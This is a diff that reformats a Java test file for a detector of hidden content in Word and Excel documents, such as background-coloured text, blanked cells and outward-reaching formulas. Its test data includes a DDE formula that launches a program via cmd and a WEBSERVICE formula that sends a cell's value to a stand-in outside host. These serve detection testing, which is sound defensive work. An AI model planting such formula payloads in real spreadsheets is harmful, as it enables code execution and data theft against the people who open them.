@@ -58,7 +58,11 @@ final class HiddenContentTest {
     }
 
     @ParameterizedTest
-    @CsvSource({"000000, 000000, in the colour of its ground", "FEFEFD, FFFFFF, white on white", "1F2A40, 1F2B41, in the colour of its ground"})
+    @CsvSource({
+        "000000, 000000, in the colour of its ground",
+        "FEFEFD, FFFFFF, white on white",
+        "1F2A40, 1F2B41, in the colour of its ground"
+    })
     void word_inkLikeItsGround_isHidden(String ink, String ground, String why) throws IOException {
         try (var doc = new XWPFDocument()) {
             doc.createParagraph().createRun().setText("Chock the wheels.");
@@ -68,8 +72,9 @@ final class HiddenContentTest {
             run.getCTR().getRPr().addNewShd().setFill(ground);
             var read = word(doc);
             assertThat(texts(read)).containsExactly("Chock the wheels.");
-            assertThat(read.suspicions()).singleElement().satisfies(s -> assertThat(s.detail())
-                    .startsWith(why));
+            assertThat(read.suspicions())
+                    .singleElement()
+                    .satisfies(s -> assertThat(s.detail()).startsWith(why));
         }
     }
 
@@ -87,10 +92,12 @@ final class HiddenContentTest {
     }
 
     @ParameterizedTest
-    @CsvSource(delimiter = ';', value = {
-        "cmd|'/c calc'!A0; a formula that starts another program",
-        "WEBSERVICE(\"http://other.example/?q=\"&A1); a formula that reaches outside by WEBSERVICE",
-    })
+    @CsvSource(
+            delimiter = ';',
+            value = {
+                "cmd|'/c calc'!A0; a formula that starts another program",
+                "WEBSERVICE(\"http://other.example/?q=\"&A1); a formula that reaches outside by WEBSERVICE",
+            })
     void workbook_formulaThatReachesOutside_isNamed(String formula, String what) throws IOException {
         try (var book = new XSSFWorkbook()) {
             var row = book.createSheet("Log").createRow(0);
@@ -106,7 +113,13 @@ final class HiddenContentTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"SUM(B1:B9)", "IF(A1=\"cmd|x!y\",1,2)", "HYPERLINK(\"http://other.example\",\"see\")", "'Sheet|A'!B2"})
+    @ValueSource(
+            strings = {
+                "SUM(B1:B9)",
+                "IF(A1=\"cmd|x!y\",1,2)",
+                "HYPERLINK(\"http://other.example\",\"see\")",
+                "'Sheet|A'!B2"
+            })
     void formulaThatCounts_orIsALink_isNothing(String formula) {
         assertThat(ReachingFormula.in(formula)).isEmpty();
     }
@@ -122,8 +135,9 @@ final class HiddenContentTest {
             style.setDataFormat(book.createDataFormat().getFormat(";;;"));
             cell.setCellStyle(style);
             var read = workbook(book);
-            assertThat(read.suspicions()).singleElement().satisfies(s -> assertThat(s.detail())
-                    .startsWith("shown as nothing by its format"));
+            assertThat(read.suspicions())
+                    .singleElement()
+                    .satisfies(s -> assertThat(s.detail()).startsWith("shown as nothing by its format"));
             assertThat(texts(read)).noneMatch(text -> text.contains("Skip"));
         }
     }
